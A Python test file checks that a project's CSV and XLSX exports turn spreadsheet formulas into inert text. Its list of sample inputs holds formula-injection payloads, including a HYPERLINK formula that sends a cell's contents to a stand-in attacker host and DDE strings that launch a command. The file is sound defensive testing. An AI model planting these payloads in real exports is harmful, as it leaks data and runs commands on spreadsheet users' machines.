"""Text that a spreadsheet would run as a formula arrives in CSV and XLSX exports as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kormo.documents.render.scores_csv import scores_csv
from kormo.domain import plan as d
from kormo.domain.spreadsheet import neutralise
from kormo.domain.values import Number
from kormo.progress.table_export import table_csv, table_xlsx

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&B2,"Click")', '@SUM(1+9)*cmd|" /C calc"!A0',
           "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_made_inert(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+3.5", "-12.5%", "রংপুর", "", -5, Decimal("-1.5"), None])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert neutralise(value) == value


def test_dashboard_csv_and_xlsx_carry_formulas_as_text() -> None:
    table = [["office", "score"], *[[text, -3] for text in ATTACKS]]
    rows = list(csv.reader(io.StringIO(b"".join(table_csv(table)).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in ATTACKS]
    assert {r[1] for r in rows[1:]} == {"-3"}
    with table_xlsx(table, "t") as workbook:  # the temporary file the response streams
        sheet = load_workbook(workbook).active
    cells = [sheet.cell(row=i, column=1) for i in range(2, len(ATTACKS) + 2)]
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS)
    assert [c.value for c in cells] == ATTACKS  # the text itself, shown as typed
    assert sheet.cell(row=2, column=2).value == -3


def test_a_formula_in_a_plans_text_arrives_in_the_scores_csv_as_text() -> None:
    indicator = d.Indicator(number="1.1.1", name=ATTACKS[0], unit=d.Unit.COUNT,
                            weight=Decimal(100), calculation_method=d.CalculationMethod.SUM,
                            levels=d.TargetLevels(Number(Decimal(10)), Number(Decimal(9))))
    plan = d.Plan(kind=d.PlanKind.APA, fiscal_year="2022-23", office="=cmd|' /C calc'!A0",
                  id="p1", office_tier=d.Tier.DISTRICT, total_weight=Decimal(100),
                  areas=(d.Area("1", "@area", Decimal(100), activities=(
                      d.Activity("1.1", "a", (indicator,)),)),))
    rows = list(csv.DictReader(io.StringIO(scores_csv([plan]))))
    assert len(rows) == 1
    text = "\n".join(",".join(r.values()) for r in rows)
    assert not any(v.startswith(("=", "@", "+")) for r in rows for v in r.values())
    assert "'" + ATTACKS[0] in text and "'=cmd" in text and "'@area" in text
